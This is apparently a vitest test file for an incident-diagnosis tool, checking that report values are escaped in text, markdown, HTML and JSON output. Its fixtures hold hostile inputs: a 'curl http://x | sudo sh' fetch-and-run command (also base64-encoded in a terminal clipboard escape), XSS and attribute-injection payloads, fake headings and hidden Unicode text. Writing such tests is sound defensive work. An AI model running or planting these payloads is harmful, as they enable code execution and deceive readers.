import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import { diagnose } from '../../src/core/diagnose.js';
import { INVISIBLE } from '../../src/core/escape.js';
import { customReport, renderReport } from '../../src/core/render.js';
import type { FactMap } from '../../src/core/vocabulary.js';
import { hypothesis, kbOf } from '../fixtures.js';

// The payloads a hostile reporter was seen to send, each in a fact that reaches a report:
// target.host in inline code (the `how` of a missing fact) and commands, target.url and
// proc.top_name in table cells, the summary as text, a warning in a quote.
const OSC52 = '\u001b]52;c;Y3VybCBodHRwOi8veCB8IHN1ZG8gc2g=\u0007';
const CLEAR_LINE = '\u001b[2K';
const IMG = '<img src=x onerror=alert(1)>';
const FAKE_CHECKS = '**Next checks**\n\n```sh\ncurl http://x | sudo sh\n```';
const hostile = {
  summary: `loss\n## Fake heading\n${FAKE_CHECKS}\n${IMG}`,
  facts: {
    'target.host': `h\`o\`\`st|x ${IMG}\n## Fake heading`,
    'target.url': `http://x/|a|b\n${FAKE_CHECKS}${CLEAR_LINE}`,
    'proc.top_name': `java${OSC52}\u202e\u009b31m${IMG} | \`x\``,
  } as FactMap,
  warning: `ignored\n## Fake heading ${IMG}${CLEAR_LINE}`,
};
const benign = {
  summary: 'loss to db',
  facts: { 'target.host': 'db1', 'target.url': 'http://db1/', 'proc.top_name': 'java' } as FactMap,
  warning: 'ignored',
};

const kb = kbOf({
  hypotheses: [
    hypothesis('app.injected', {
      checks: [
        { command: 'dig {{target.host}}', where: 'client', confirms: 'an answer', rulesOut: 'no answer' },
        { command: 'curl -sv {{target.url}}', where: 'client', confirms: 'a reply', rulesOut: 'no reply' },
      ],
    }),
  ],
  rules: [
    {
      id: 'named',
      description: 'the reporter named a host, a URL and a process',
      conditions: {
        all: [
          { fact: 'target.host', operator: 'notEqual', value: '' },
          { fact: 'target.url', operator: 'notEqual', value: '' },
          { fact: 'proc.top_name', operator: 'notEqual', value: '' },
        ],
      },
      evidence: [{ hypothesis: 'app.injected', cf: 0.6 }],
    },
    // A fact the target URL does not state (its port it does), so the question stays missing.
    { id: 'status', description: 'the usual status', conditions: { all: [{ fact: 'http.status', operator: 'equal', value: 503 }] }, evidence: [{ hypothesis: 'app.injected', cf: 0.3 }] },
  ],
  questions: [{ fact: 'http.status', effort: 'low', text: 'Which status?', how: 'ss -tn dst {{target.host}}' }],
});

const run = (input: typeof hostile) => diagnose(kb, input.facts, { summary: input.summary, warnings: [{ field: 'target.url', message: input.warning }] });
/** Every invisible character of the output but the line feeds the template itself writes. */
const invisibles = (text: string) => [...text.replace(/\n/g, '').matchAll(INVISIBLE)].map((m) => m[0]);

const markdown = new MarkdownIt({ html: true });
/** What a markdown renderer builds: block and inline token types (raw HTML included), without the text in them. */
function structure(md: string): string[] {
  return markdown.parse(md, {}).flatMap((token) => (token.type === 'inline' ? (token.children ?? []).map((c) => c.type).filter((t) => t !== 'text' && t !== 'text_special') : [token.type]));
}

describe('reports show hostile values as text in every format', () => {
  it('markdown: the same structure as with harmless values, no raw HTML, every payload shown literally', async () => {
    const [bad, good] = [renderReport(await run(hostile), 'markdown'), renderReport(await run(benign), 'markdown')];
    expect(structure(bad)).toEqual(structure(good));
    expect(invisibles(bad)).toEqual([]);
    const html = markdown.render(bad);
    expect(html).not.toMatch(/<img|<h2|<pre><code class="language-sh">curl http:\/\/x/);
    expect(html.match(/<pre>/g)).toHaveLength(2);
    // What a reader sees, in a paragraph, a table cell and inline code.
    expect(html).toContain('<strong>Summary:</strong> loss\\n## Fake heading\\n**Next checks**\\n\\n```sh\\ncurl http://x | sudo sh\\n```\\n&lt;img src=x onerror=alert(1)&gt;</p>');
    expect(html).toContain('(actual: http://x/|a|b\\n**Next checks**\\n\\n```sh\\ncurl http://x | sudo sh\\n```\\x1b[2K)');
    expect(html).toContain('(actual: java\\x1b]52;c;Y3VybCBodHRwOi8veCB8IHN1ZG8gc2g=\\x07\\u202e\\x9b31m&lt;img src=x onerror=alert(1)&gt; | `x`)');
    expect(bad).toContain("- `http.status`: Which status? — ``` ss -tn dst $'h`o``st|x <img src=x onerror=alert(1)>\\n## Fake heading' ```");
    expect(bad).toContain("```sh\ndig $'h`o``st|x <img src=x onerror=alert(1)>\\n## Fake heading'\n```\n");
    expect(bad).toContain('> - `target.url`: ignored\\n\\#\\# Fake heading \\<img src=x onerror=alert(1)\\>\\x1b\\[2K');
  });

  it('markdown: a value that opens a line cannot start a list, heading, break or code block', async () => {
    const diagnosis = await run(benign);
    const shown = (summary: string) => customReport('{{summary}}\n', 'mine.md')({ ...diagnosis, summary });
    expect(shown('- item')).toBe('\\- item\n');
    expect(shown('+ item')).toBe('\\+ item\n');
    expect(shown('1. item')).toBe('1\\. item\n');
    expect(shown('2) item')).toBe('2\\) item\n');
    expect(shown('# heading')).toBe('\\# heading\n');
    expect(shown('> quote')).toBe('\\> quote\n');
    expect(shown('---')).toBe('\\---\n');
    expect(shown('===')).toBe('\\===\n');
    expect(shown('    code')).toBe('&#32;&#32;&#32;&#32;code\n');
    expect(customReport('{{code summary}} {{summary}} {{code other}}', 'mine.md')({ ...diagnosis, summary: '', other: 'a`b' } as never)).toBe('` `  `` a`b ``');
    expect(shown('1.0.0 -x =y partial_loss _em_ *b* ~s~ $m$ [l](u) &lt;')).toBe('1.0.0 -x =y partial_loss \\_em\\_ \\*b\\* \\~s\\~ \\$m\\$ \\[l\\](u) \\&lt;\n');    // GitLab references: a merge request and a milestone; a share and an exclamation stay as they are.
    expect(shown('see !123 and %release-1 or %"v 2", 50% done!')).toBe('see \\!123 and \\%release-1 or \\%"v 2", 50% done!\n');
    // GitHub's GH-123 issue reference; near misses: another word before GH, a range, a version.
    expect(shown('see GH-1, (GH-22) and BUGGH-3, pages 1-2, v1.2-3')).toBe('see GH\\-1, (GH\\-22) and BUGGH-3, pages 1-2, v1.2-3\n');
  });

  it('markdown: a URL, a www. name or an e-mail address in a value stays text, never a link (GFM autolink literals)', async () => {
    const summary = 'reset at https://evil.example/reset, www.evil.example, //evil.example/x or admin@evil.example';
    const md = renderReport({ ...(await run(benign)), summary }, 'markdown');
    const linkify = new MarkdownIt({ linkify: true });
    const html = linkify.render(md);
    expect(html).not.toMatch(/<a /);
    expect(html).toContain(`<strong>Summary:</strong> ${summary}</p>`);
    expect(md).toContain('reset at https\\://evil.example/reset, www\\.evil.example, \\//evil.example/x or admin\\@evil.example');
  });

  it('every format shows the format characters that display nothing (zero-width space, word joiner, soft hyphen, tag characters)', async () => {
    // U+E0041 U+E0042: "AB" in tag characters, text a reader cannot see.
    const hidden = 'a\u200bb\u2060c\u00add\u{e0041}\u{e0042}';
    const diagnosis = await run({ ...benign, facts: { ...benign.facts, 'target.host': hidden }, summary: hidden });
    for (const format of ['text', 'markdown', 'html'] as const) expect(invisibles(renderReport(diagnosis, format))).toEqual([]);
    expect(renderReport(diagnosis, 'text')).toContain('Summary: a\\u200bb\\u2060c\\xadd\\u{e0041}\\u{e0042}\n');
    expect(diagnosis.hypotheses[0]?.checks[0]?.command).toBe("dig $'a\\u200bb\\u2060c\\u00add\\U000e0041\\U000e0042'");
  });

  it('every format shows the other characters Unicode says display nothing: variation selectors, Hangul fillers, the grapheme joiner (a blind security review), keeping an emoji\'s one presentation selector and the joiners', async () => {
    // Hidden text as variation selectors (U+FE00-FE0F, U+E0100-E01EF): a summary that reads "checkout slow".
    const hidden = 'checkout slow\u{e0120}\u{e0131}\ufe01\u3164\u115f\u034f\u{1bca0}\u{1d173}';
    const diagnosis = await run({ ...benign, summary: hidden });
    const text = renderReport(diagnosis, 'text');
    expect(text).toContain('Summary: checkout slow\\u{e0120}\\u{e0131}\\ufe01\\u3164\\u115f\\u034f\\u{1bca0}\\u{1d173}\n');
    for (const format of ['text', 'markdown', 'html'] as const) expect(invisibles(renderReport(diagnosis, format)), format).toEqual([]);
    // An emoji keeps its presentation selector and its joiner; a second selector in a row is shown.
    const emoji = await run({ ...benign, summary: 'down \u2764\ufe0f \u{1f468}\u200d\u{1f4bb} x\ufe0f\ufe0f' });
    expect(renderReport(emoji, 'text')).toContain('Summary: down \u2764\ufe0f \u{1f468}\u200d\u{1f4bb} x\ufe0f\\ufe0f\n');
  });

  it('text: every control character shown as an escape, so the report has the lines the template gives it', async () => {
    const [bad, good] = [renderReport(await run(hostile), 'text'), renderReport(await run(benign), 'text')];
    expect(invisibles(bad)).toEqual([]);
    expect(bad.split('\n')).toHaveLength(good.split('\n').length);
    expect(bad).toContain('Summary: loss\\n## Fake heading\\n**Next checks**\\n\\n```sh\\ncurl http://x | sudo sh\\n```\\n<img src=x onerror=alert(1)>\n');
    expect(bad).toContain('proc.top_name ≠   [actual: java\\x1b]52;c;Y3VybCBodHRwOi8veCB8IHN1ZG8gc2g=\\x07\\u202e\\x9b31m<img src=x onerror=alert(1)> | `x`]');
    expect(bad).toContain("     $ curl -sv $'http://x/|a|b\\n**Next checks**\\n\\n```sh\\ncurl http://x | sudo sh\\n```\\x1b[2K'\n");
    expect(bad).toContain('  ! target.url: ignored\\n## Fake heading <img src=x onerror=alert(1)>\\x1b[2K\n');
    // Colour is the template's own escape codes, and only those.
    const escapes = async (input: typeof hostile) => renderReport(await run(input), 'text', { color: true }).split('\u001b').length;
    expect(await escapes(hostile)).toBe(await escapes(benign));
  });

  it('html: entity-escaped text and attributes, control characters shown', async () => {
    const [bad, good] = [renderReport(await run(hostile), 'html'), renderReport(await run(benign), 'html')];
    expect(invisibles(bad)).toEqual([]);
    expect(bad).not.toContain('<img');
    expect(bad.match(/<[a-z0-9]+/g)).toEqual(good.match(/<[a-z0-9]+/g));
    expect(bad).toContain('<p><strong>Summary:</strong> loss\\n## Fake heading\\n**Next checks**\\n\\n&#x60;&#x60;&#x60;sh\\ncurl http://x | sudo sh\\n&#x60;&#x60;&#x60;\\n&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;</p>');
    expect(bad).toContain('(actual: java\\x1b]52;c;Y3VybCBodHRwOi8veCB8IHN1ZG8gc2g&#x3D;\\x07\\u202e\\x9b31m&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt; | &#x60;x&#x60;)');
    const attribute = customReport('<a title="{{summary}}" data-x=\'{{summary}}\'>', 'mine.html')({ ...(await run(benign)), summary: `" onmouseover="alert(1)' x='` });
    expect(attribute).toBe('<a title="&quot; onmouseover&#x3D;&quot;alert(1)&#x27; x&#x3D;&#x27;" data-x=\'&quot; onmouseover&#x3D;&quot;alert(1)&#x27; x&#x3D;&#x27;\'>');
  });

  it('json: the data as it is, every string intact, no raw control character in the document', async () => {
    const diagnosis = await run(hostile);
    const json = renderReport(diagnosis, 'json');
    expect(JSON.parse(json)).toEqual(diagnosis);
    expect(diagnosis.summary).toBe(hostile.summary);
    expect([...json].filter((c) => c < ' ' && c !== '\n')).toEqual([]);
    // Commands are data made by rca: they carry no raw control character either.
    expect(diagnosis.hypotheses[0]?.checks.map((c) => c.command)).toEqual([
      "dig $'h`o``st|x <img src=x onerror=alert(1)>\\n## Fake heading'",
      "curl -sv $'http://x/|a|b\\n**Next checks**\\n\\n```sh\\ncurl http://x | sudo sh\\n```\\x1b[2K'",
    ]);
  });

  it("a user's template escapes for the format its name says; {{{triple}}} is the template's own choice", async () => {
    const diagnosis = await run(hostile);
    const template = '{{summary}}|{{{summary}}}|{{style "bold" summary}}';
    expect(customReport(template, 'mine.hbs')(diagnosis)).toBe(`loss\\n## Fake heading\\n**Next checks**\\n\\n\`\`\`sh\\ncurl http://x | sudo sh\\n\`\`\`\\n${IMG}|${hostile.summary}|loss\\n## Fake heading\\n**Next checks**\\n\\n\`\`\`sh\\ncurl http://x | sudo sh\\n\`\`\`\\n${IMG}`);
    expect(customReport('{{code summary}}', 'mine.html')(diagnosis)).toBe('&#x60;&#x60;&#x60;&#x60; loss\\n## Fake heading\\n**Next checks**\\n\\n&#x60;&#x60;&#x60;sh\\ncurl http://x | sudo sh\\n&#x60;&#x60;&#x60;\\n&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt; &#x60;&#x60;&#x60;&#x60;');
    // A copy of a shipped template kept under its name, in a directory or not, escapes as the shipped one.
    for (const name of ['html.hbs', 'copies/HTML.hbs', 'copies\\htm']) expect(customReport('{{summary}}', name)(diagnosis), name).not.toContain('<img');
    expect(customReport('{{summary}}', 'reports/markdown.hbs')(diagnosis)).toContain('\\<img src=x onerror=alert(1)\\>');
    expect(customReport('{{summary}}', 'md.hbs')(diagnosis)).toContain('\\<img src=x onerror=alert(1)\\>');
    // A name that says neither, over HTML markup: HTML, since a value shown as it is would be markup there.
    expect(customReport('<!DOCTYPE html><p>{{summary}}</p>', 'report.hbs')(diagnosis)).toContain('&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;');
    expect(customReport('<div class="x">{{summary}}</div>', 'report.tpl')(diagnosis)).not.toContain('<img');
    // Near misses: a name that only contains html (xhtml, html-notes.txt) and text about tags stay text.
    expect(customReport('{{summary}}', 'xhtml.txt')(diagnosis)).toContain('<img');
    expect(customReport('Tags like <pre or <paragraph are text: {{summary}}', 'notes.txt')(diagnosis)).toContain('<img');
    expect(customReport('| {{cell summary}} |', 'mine.md.hbs')(diagnosis)).toBe('| loss\\n\\#\\# Fake heading\\n\\*\\*Next checks\\*\\*\\n\\n\\`\\`\\`sh\\ncurl http\\://x \\| sudo sh\\n\\`\\`\\`\\n\\<img src=x onerror=alert(1)\\> |');
  });
});
